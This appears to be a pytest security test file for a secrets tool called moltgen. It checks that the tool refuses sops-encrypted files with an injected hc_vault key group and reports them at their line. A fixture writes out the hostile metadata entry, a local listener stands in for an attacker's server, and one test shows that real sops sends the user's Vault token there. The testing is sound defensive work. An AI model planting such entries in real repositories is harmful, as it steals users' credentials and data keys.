"""A key in a Secret's sops metadata that is not one of the spec's age recipients (issue 20,
attack 6).

A pull request adds an `hc_vault` entry pointing at its own server to `secret.enc.yaml` (no
private key needed: the MAC covers values, not the key list). With the real sops, the next
decryption by anyone whose age key does not match sends their `~/.vault-token` to that server,
and the next re-encryption sends it the data key; the first test shows it does. moltgen refuses
the file before sops runs, in one located line, and `check` reports each such entry at its line.
A listener on 127.0.0.1 stands in for the server and counts connections: none may be made."""

from __future__ import annotations

import json
import secrets
from pathlib import Path

import pytest
from support import Listener, run_moltgen, snapshot

from moltgen.secrets import sops
from moltgen.secrets.age import keygen

SECRET_FILE = "overlays/dev/secret.enc.yaml"
VALUE = f"test-provider-value-{secrets.token_hex(12)}"  # made per run, searched for in output
VAULT_TOKEN = "hvs.THE-USERS-OWN-VAULT-TOKEN"


def spec(recipients: list[str]) -> str:
    return (f"name: bot\nnamespace: bots\nproviders: {{anthropic: {{enabled: true}}}}\n"
            f"sops: {{ageRecipients: [{', '.join(recipients)}]}}\n"
            "environments:\n  dev: {}\n")


@pytest.fixture
def listener():
    found = Listener()
    yield found
    found.stop()


@pytest.fixture
def keys(tmp_path, monkeypatch):
    """alice (in the spec, her key given to sops), bob (not in the spec), and a ~/.vault-token
    in the HOME sops sees (tests/secrets/conftest.py isolates HOME)."""
    alice = keygen(tmp_path / "keys" / "alice.txt")
    bob = keygen(tmp_path / "keys" / "bob.txt")
    monkeypatch.setenv("SOPS_AGE_KEY_FILE", str(alice.key_file))
    home = Path(__import__("os").environ["HOME"])
    (home / ".vault-token").write_text(VAULT_TOKEN + "\n")
    return alice, bob


def _vault_entry(port: int) -> str:
    return (f"    hc_vault:\n        - vault_address: http://127.0.0.1:{port}\n"
            "          engine_path: sops\n          key_name: moltgen\n"
            "          created_at: \"2026-01-01T00:00:00Z\"\n          enc: vault:v1:AAAA\n")


@pytest.fixture
def hostile_project(tmp_path, keys, listener):
    """A project whose dev Secret holds a value, then gets a Vault key group added."""
    alice, _ = keys
    root = tmp_path / "project"
    root.mkdir()
    (root / "moltgen.yaml").write_text(spec([alice.recipient]))
    assert run_moltgen("render", cwd=root).code == 0
    assert run_moltgen("secrets", "set", "dev", "anthropicApiKey", "--from-env", "V",
                       cwd=root, env={"V": VALUE}).code == 0
    secret = root / SECRET_FILE
    secret.write_text(secret.read_text().replace("sops:\n", "sops:\n" + _vault_entry(listener.port), 1))
    line = secret.read_text().splitlines().index("        - vault_address: "
                                                 f"http://127.0.0.1:{listener.port}") + 1
    return root, line


def test_the_real_sops_sends_the_users_vault_token_to_the_server_the_file_names(
        hostile_project, keys, listener, monkeypatch):
    """Why the refusal matters (and that this test's attack is real): sops itself, given the
    file and an age key that does not match, asks the server with the user's token."""
    root, _ = hostile_project
    _, bob = keys
    monkeypatch.setenv("SOPS_AGE_KEY_FILE", str(bob.key_file))
    with pytest.raises(sops.SopsError):
        sops.run(["decrypt", "--input-type", "yaml", "--output-type", "yaml", "/dev/stdin"],
                 file=SECRET_FILE, stdin=(root / SECRET_FILE).read_bytes())
    assert any(VAULT_TOKEN.encode() in request for request in listener.received), listener.received


COMMANDS = [
    ("secrets", "get", "dev", "anthropicApiKey"),
    ("secrets", "set", "dev", "anthropicApiKey", "--from-env", "V"),
    ("secrets", "rotate", "dev", "gatewayToken"),
    ("secrets", "updatekeys"),
    ("render",),
    ("render", "--check"),
]


@pytest.mark.parametrize("matching_key", [True, False], ids=["own-key", "other-key"])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_secrets_commands_refuse_the_file_before_sops_runs(hostile_project, keys, listener,
                                                          command, matching_key):
    root, line = hostile_project
    alice, bob = keys
    if command == ("secrets", "updatekeys"):  # something for updatekeys to do
        (root / "moltgen.yaml").write_text(spec([alice.recipient, bob.recipient]))
    before = snapshot(root)
    key_file = alice.key_file if matching_key else bob.key_file
    result = run_moltgen(*command, cwd=root, env={"V": "new", "SOPS_AGE_KEY_FILE": str(key_file)})
    assert result.code == 2, (result.stdout, result.stderr)
    [message] = result.stderr.splitlines()
    assert message.startswith(f"moltgen: {SECRET_FILE}:{line}:"), message
    assert "hc_vault" in message and "before sops runs" in message
    assert VALUE not in result.stdout + result.stderr
    assert listener.received == []  # no connection at all
    after = {p: c for p, c in snapshot(root).items() if p != ".moltgen.lock"}
    assert after == {p: c for p, c in before.items() if p != ".moltgen.lock"}


def test_check_reports_the_foreign_key_group_at_its_line(hostile_project, listener):
    root, line = hostile_project
    result = run_moltgen("check", "--format", "json", cwd=root)
    assert result.code == 1, (result.stdout, result.stderr)
    found = [f for f in json.loads(result.stdout)["findings"] if f["rule"] == "secret-foreign-keys"]
    assert len(found) == 1, found
    assert found[0]["severity"] == "error"
    assert (found[0]["file"], found[0]["line"]) == (SECRET_FILE, line), found[0]
    assert "hc_vault" in found[0]["message"]
    assert listener.received == []


def test_check_reports_an_age_recipient_the_spec_does_not_name(tmp_path, keys):
    """The spec decides which age recipients belong: one added to the file only is reported;
    once the spec names it too, it is not."""
    alice, bob = keys
    root = tmp_path / "project"
    root.mkdir()
    (root / "moltgen.yaml").write_text(spec([alice.recipient]))
    assert run_moltgen("render", cwd=root).code == 0
    secret = root / SECRET_FILE
    text = secret.read_text()
    extra = f"        - recipient: {bob.recipient}\n          enc: x\n"
    secret.write_text(text.replace("    age:\n", "    age:\n" + extra, 1))
    line = secret.read_text().splitlines().index(f"        - recipient: {bob.recipient}") + 1
    result = run_moltgen("check", "--format", "json", cwd=root)
    found = [f for f in json.loads(result.stdout)["findings"] if f["rule"] == "secret-foreign-keys"]
    assert [(f["file"], f["line"]) for f in found] == [(SECRET_FILE, line)], result.stdout
    assert bob.recipient in found[0]["message"]
    (root / "moltgen.yaml").write_text(spec([alice.recipient, bob.recipient]))
    result = run_moltgen("check", "--format", "json", cwd=root)
    assert not [f for f in json.loads(result.stdout)["findings"] if f["rule"] == "secret-foreign-keys"]
